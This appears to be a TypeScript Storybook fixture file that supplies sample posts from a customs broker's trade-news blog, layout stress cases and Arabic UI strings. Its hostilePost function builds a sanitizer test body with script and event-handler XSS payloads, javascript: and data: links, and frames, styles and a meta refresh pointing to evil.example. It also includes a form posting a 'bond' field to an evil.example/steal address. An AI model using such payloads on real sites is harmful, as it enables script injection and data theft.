import type { Post } from '../src/feed/post.js';
import { toItem, type JsonFeed } from '../src/cli/json-feed.js';

/**
 * The broker's blog as the seed page shows it: the open post (18 views, 0 comments) and the three
 * "Recent Posts", newest first. Images are the small SVGs Storybook serves from stories/assets, so
 * nothing is loaded from another host.
 */

/** An absolute http(s) URL for a file in stories/assets (the elements accept only http(s) images). */
export function asset(file: string): string {
  return new URL(`sample-assets/${file}`, document.baseURI).href;
}

/** An absolute URL the stories' stubbed `fetch` answers (see mock-fetch.ts); never a real request. */
export function mockUrl(path: string): string {
  return new URL(`/stories/${path}`, location.href).href;
}

const blog = 'https://www.tradelogicintl.com';

const stephen = () => ({
  name: 'Stephen Fodor',
  url: `${blog}/profile/stephen-fodor`,
  avatar: asset('stephen-fodor.svg'),
});

const contactLine =
  '<p>If you have any questions please contact us at <a href="mailto:info@tradelogicintl.com">info@tradelogicintl.com</a>.</p>';

const maritimeBody = `<p><strong>International Maritime Organization is the second shipping entity attacked by hackers in the past week</strong></p>
<p>(WSJ) The International Maritime Organization, the United Nations arm that regulates global shipping, said its London headquarters has been hit by a cyberattack that brought down its website and internal web-based services.</p>
<p>The regulator was hit “by a sophisticated cyberattack against the organization’s IT systems that overcame robust security measures in place,” the IMO said on Thursday. “IMO technicians shut down key systems to prevent further damage from the attack.”</p>
<p>The hack was the latest in what appear to be a increasing number of cyberattacks on companies and organizations around the world this year. It follows a malware attack that hit containership company CMA CGM SA last weekend, crippling the French carrier’s booking and electronic communications network.</p>
<h3>Container Shipping Line CMA CGM Says Data Possibly Stolen in Cyberattack</h3>
<p>(WSJ) CMA CGM SA said some of its data may have been stolen after a malware attack that forced the global container line to shut down its main booking platform, delay cargo deliveries and halt electronic communications with clients and customs authorities.</p>
<blockquote><p>“We suspect a data breach and are doing everything possible to assess its potential volume and nature,” a company spokeswoman said Wednesday.</p></blockquote>
<p>France-based CMA CGM, the world’s fourth-largest container shipping line by capacity, said late Tuesday that the cyberattack over the weekend on two of its Asia-Pacific subsidiaries was being contained and that “all communications to and from the CMA CGM Group are secure, including emails, transmitted files and electronic data interchange interfaces.”</p>
<p>The company said in a customer advisory that it had suspended access to electronic bookings through its websites to protect customers. It said all cargo booked before Sept. 27 was secure, but later bookings will be processed as soon as possible.</p>
${contactLine}`;

/** The four posts of the seed page, newest first, as the elements' normalized `Post`. */
export function seedPosts(): Post[] {
  return [
    {
      id: 'section-301-duty-exclusions',
      title: 'Section 301 Duty Exclusions Set to Expire on 12/31/23',
      url: `${blog}/post/section-301-duty-exclusions-set-to-expire-on-12-31-23`,
      summary:
        'Unless Congress acts quickly, the duty exclusions currently in place for certain products imported from China are set to expire on Dec. 31st. Importers who currently enjoy these exclusions on their products should plan for the duty now.',
      contentHtml: `<p>Unless Congress acts quickly, the duty exclusions currently in place for certain products imported from China are set to expire on Dec. 31st.</p>
<p>Importers who currently enjoy these exclusions on their products should review their classifications and plan for the additional duty now.</p>
${contactLine}`,
      image: asset('section-301.svg'),
      datePublished: '2023-12-12T15:00:00Z',
      authors: [stephen()],
      tags: ['Section 301', 'China', 'Tariffs', 'Compliance'],
      views: 41,
      comments: 2,
    },
    {
      id: 'linkedin-newsletter',
      title: 'Subscribe to My Linkedin Newsletter',
      url: `${blog}/post/subscribe-to-my-linkedin-newsletter`,
      summary:
        'To help you keep up to date on topics the impact the U.S. international trade community, be sure to read my latest newsletter and subscribe for future updates too.',
      contentHtml: `<p>To help you keep up to date on topics the impact the U.S. international trade community, be sure to read my latest newsletter and subscribe for future updates too.</p>
<p><a href="https://www.linkedin.com/">Read the newsletter on LinkedIn</a></p>`,
      image: asset('newsletter.svg'),
      datePublished: '2023-11-06T14:00:00Z',
      authors: [stephen()],
      tags: ['Newsletter'],
      views: 12,
      comments: 0,
    },
    {
      id: 'importer-pleads-guilty',
      title: 'Importer Pleads Guilty to Duty Evasion',
      url: `${blog}/post/importer-pleads-guilty-to-duty-evasion`,
      summary:
        'The owner of a U.S. based import business faces a maximum penalty of five years in prison, a $250,000 fine, a three-year term of supervised release, and a payment of $1,090,000 in restitution.',
      contentHtml: `<p>The owner of a U.S. based import business faces a maximum penalty of five years in prison, a $250,000 fine, a three-year term of supervised release, and a payment of $1,090,000 in restitution.</p>
<p>Duty evasion cases like this one are a reminder that the importer of record is responsible for the accuracy of every entry.</p>
${contactLine}`,
      image: asset('duty-evasion.svg'),
      datePublished: '2023-10-19T16:30:00Z',
      authors: [stephen()],
      tags: ['Enforcement', 'Duty Evasion', 'Compliance'],
      views: 27,
      comments: 1,
    },
    {
      id: 'maritime-regulator-cyberattack',
      title: 'Maritime Regulator Hit by Cyberattack, Data Possibly Stolen in Last Weeks CMA CGM Cyberattack',
      url: `${blog}/post/maritime-regulator-hit-by-cyberattack`,
      summary:
        'International Maritime Organization is the second shipping entity attacked by hackers in the past week.',
      contentHtml: maritimeBody,
      image: asset('cyberattack.svg'),
      datePublished: '2023-10-02T13:00:00Z',
      authors: [stephen()],
      tags: ['Cybersecurity', 'Ocean Freight', 'CMA CGM'],
      views: 18,
      comments: 0,
    },
  ];
}

/** The open post on the seed page. */
export function seedPost(): Post {
  return seedPosts().find((post) => post.id === 'maritime-regulator-cyberattack')!;
}

/** A JSON Feed 1.1 page of `posts`; `next` names the following page's mocked path. */
export function jsonFeed(posts: Post[] = seedPosts(), next?: string): JsonFeed & { language: string } {
  return {
    version: 'https://jsonfeed.org/version/1.1',
    title: 'Trade Logic International — Trade News',
    home_page_url: `${blog}/blog`,
    feed_url: `${blog}/feed.json`,
    language: 'en-US',
    ...(next ? { next_url: mockUrl(next) } : {}),
    items: posts.map(toItem),
  };
}

/**
 * The seed posts with the text that breaks layouts: a very long title, a long unbroken word,
 * a long author name and large counts.
 */
export function longTitlePosts(): Post[] {
  const [section301, newsletter, importer, maritime] = seedPosts();
  return [
    {
      ...maritime,
      id: 'long-maritime',
      title: `${maritime.title}: What Importers, Exporters and Their Customs Brokers Should Ask Their Ocean Carriers About Booking Systems, Electronic Data Interchange and Cargo Release Before the Peak Season`,
      views: 1_234_567,
      comments: 1_024,
    },
    {
      ...section301,
      id: 'long-hts',
      title: 'HTSUS 8471.30.0100/8471.41.0150/8473.30.1180/8504.40.9580 Section301ExclusionExtensionNotice2023-12-31',
      authors: [{ name: 'Stephen Fodor, Licensed Customs Broker and Certified Customs Specialist (CCS)' }],
    },
    { ...importer, id: 'long-importer', summary: `${importer.summary} ${importer.summary} ${importer.summary}` },
    newsletter,
  ];
}

/** The seed post carrying many tags, as a blog that tags generously would publish it. */
export function manyTagsPost(): Post {
  return {
    ...seedPost(),
    id: 'many-tags',
    tags: [
      'Cybersecurity',
      'Ocean Freight',
      'CMA CGM',
      'International Maritime Organization',
      'Malware',
      'Data Breach',
      'EDI',
      'Bookings',
      'Asia-Pacific',
      'Supply Chain',
      'Customs Authorities',
      'Risk Management',
      'Compliance',
      'WSJ',
    ],
  };
}

/**
 * A post body written to attack the page: scripts, event handlers, `javascript:` and `data:`
 * links, frames, forms, styles and meta refreshes. The sanitizer must leave only the prose, the
 * heading, the list, the table, the quote, the image (served locally) and the plain links.
 */
export function hostilePost(): Post {
  return {
    ...seedPost(),
    id: 'hostile-html',
    image: undefined,
    title: 'Customs Alert: <script>alert("title")</script> Phishing Emails Impersonating CBP',
    summary: 'A post whose body tries every trick; what remains is what the sanitizer lets through.',
    contentHtml: `<h2 onclick="alert('heading')">Phishing emails impersonating CBP</h2>
<script>alert('script element')</script>
<p style="position:fixed;inset:0;background:red">Several importers received emails asking them to “confirm” their bond by following a link.
<img src="${asset('cyberattack.svg')}" alt="Container ship at sea" onerror="alert('onerror')" onload="alert('onload')"></p>
<p><a href="javascript:alert('javascript link')">A javascript: link</a> · <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">A data: link</a> · <a href="https://www.cbp.gov/">CBP’s own site</a></p>
<iframe src="https://evil.example/frame" title="frame"></iframe>
<object data="https://evil.example/flash.swf"></object>
<embed src="https://evil.example/embed.swf">
<form action="https://evil.example/steal"><input name="bond" value="123"><button>Confirm bond</button></form>
<style>body { display: none }</style>
<link rel="stylesheet" href="https://evil.example/evil.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<ul><li>Never pay a bond by wire transfer from an email link.</li><li>Call your broker on a number you already know.</li></ul>
<table><caption>Reported emails</caption><thead><tr><th scope="col">Week</th><th scope="col">Reports</th></tr></thead><tbody><tr><td>Dec. 4</td><td>12</td></tr><tr><td>Dec. 11</td><td>31</td></tr></tbody></table>
<blockquote><p>“CBP will never ask you to pay duties through a link in an email.”</p></blockquote>
<pre><code>From: cbp-bonds@evil.example</code></pre>
<svg><script>alert('svg script')</script><a href="javascript:alert(1)"><text y="20">svg link</text></a></svg>
${contactLine}`,
  };
}

/**
 * The seed posts as an Arabic-language broker would publish them, for the right-to-left story:
 * titles, summaries, tags and author in Arabic, so the mirrored layout is judged with real text.
 */
export function arabicPosts(): Post[] {
  const author = { ...stephen(), name: 'ستيفن فودور' };
  const translated: Record<string, Pick<Post, 'title' | 'summary' | 'tags'>> = {
    'section-301-duty-exclusions': {
      title: 'إعفاءات رسوم المادة 301 تنتهي في 31/12/2023',
      summary:
        'ما لم يتحرك الكونغرس بسرعة، ستنتهي في 31 ديسمبر الإعفاءات المعمول بها حاليًا لبعض المنتجات المستوردة من الصين. على المستوردين المستفيدين من هذه الإعفاءات الاستعداد لدفع الرسوم من الآن.',
      tags: ['المادة 301', 'الصين', 'الرسوم الجمركية'],
    },
    'linkedin-newsletter': {
      title: 'اشترك في نشرتي الإخبارية على LinkedIn',
      summary:
        'لمساعدتك على متابعة الموضوعات التي تؤثر في مجتمع التجارة الدولية في الولايات المتحدة، اقرأ أحدث نشرة لي واشترك لتصلك التحديثات القادمة.',
      tags: ['نشرة إخبارية'],
    },
    'importer-pleads-guilty': {
      title: 'مستورد يقرّ بالذنب في التهرب من الرسوم الجمركية',
      summary:
        'يواجه صاحب شركة استيراد مقرها الولايات المتحدة عقوبة قصوى بالسجن خمس سنوات، وغرامة قدرها 250,000 دولار، وثلاث سنوات من الإفراج تحت المراقبة، ودفع تعويض قدره 1,090,000 دولار.',
      tags: ['إنفاذ القانون', 'التهرب من الرسوم'],
    },
    'maritime-regulator-cyberattack': {
      title: 'هجوم إلكتروني على الهيئة المنظمة للنقل البحري، واحتمال سرقة بيانات في هجوم CMA CGM الأسبوع الماضي',
      summary: 'المنظمة البحرية الدولية هي ثاني جهة في قطاع الشحن يستهدفها القراصنة خلال الأسبوع الماضي.',
      tags: ['الأمن السيبراني', 'الشحن البحري'],
    },
  };
  return seedPosts().map((post) => ({ ...post, ...translated[post.id], authors: [author], contentHtml: undefined }));
}

/** Arabic UI strings for the right-to-left story (Arabic is not a built-in language). */
export const arabicMessages: Record<string, string> = {
  'feed.heading': 'أحدث المقالات',
  'feed.seeAll': 'عرض الكل',
  'feed.label': 'الأخبار',
  'feed.loadMore': 'تحميل المزيد',
  'post.by': 'بقلم {name}',
  'post.tags': 'الوسوم',
  'post.readMore': 'اقرأ المزيد',
  'post.views_zero': 'لا مشاهدات',
  'post.views_one': 'مشاهدة واحدة',
  'post.views_two': 'مشاهدتان',
  'post.views_few': '{count} مشاهدات',
  'post.views_many': '{count} مشاهدة',
  'post.views_other': '{count} مشاهدة',
  'post.comments_zero': 'لا تعليقات',
  'post.comments_one': 'تعليق واحد',
  'post.comments_two': 'تعليقان',
  'post.comments_few': '{count} تعليقات',
  'post.comments_many': '{count} تعليقًا',
  'post.comments_other': '{count} تعليق',
};
